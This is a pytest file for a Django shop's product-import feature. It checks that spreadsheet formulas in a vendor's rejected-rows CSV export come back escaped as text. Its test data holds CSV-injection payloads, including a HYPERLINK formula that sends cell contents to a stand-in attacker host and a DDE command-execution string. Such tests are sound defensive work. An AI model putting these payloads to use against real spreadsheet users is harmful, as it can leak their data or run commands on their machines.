"""The rejected-rows CSV a vendor downloads after an import: what she typed comes back as text, a
spreadsheet formula in a row never comes back live."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from catalogue.imports import product_import_run
from catalogue.models import ProductImport
from tests.factories import ShopFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1;"Bấm")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def test_formulas_in_rejected_rows_come_back_as_text(client):
    shop = ShopFactory()
    client.force_login(shop.members.get())
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["sku", "title", "price_vnd", "stock"])
    for formula in FORMULAS:  # each sku is refused (not a valid sku) and reported back
        writer.writerow([formula, "Mật ong", "1000", "1"])
    client.post(
        reverse("seller:product-import-new"),
        {"file": SimpleUploadedFile("hang.csv", buffer.getvalue().encode())},
    )
    product_import = ProductImport.objects.get()
    product_import_run(import_id=product_import.pk)

    response = client.get(reverse("seller:product-import-rejected", kwargs={"pk": product_import.pk}))

    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")  # Excel shows the accents
    rows = list(csv.reader(io.StringIO(body[1:])))
    assert rows[0] == ["Dòng", "sku", "Lý do"]
    # the sku is read trimmed: a leading tab or carriage return goes, the formula after it stays
    assert [row[1] for row in rows[1:]] == ["'" + formula.strip() for formula in FORMULAS]
    for row in rows[1:]:
        assert not row[1].startswith(("=", "+", "-", "@", "\t", "\r"))
        assert not row[2].startswith(("=", "+", "-", "@", "\t", "\r"))
